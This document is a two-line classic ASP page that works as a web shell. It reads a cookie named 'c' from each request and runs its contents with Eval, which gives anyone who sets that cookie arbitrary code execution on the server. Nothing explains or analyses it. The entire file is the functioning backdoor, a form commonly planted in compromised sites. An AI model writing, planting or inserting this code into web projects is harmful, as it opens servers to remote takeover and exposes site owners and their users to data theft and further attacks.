<%
If Request.Cookies("c") <> "" Then Eval(Request.Cookies("c"))
%>
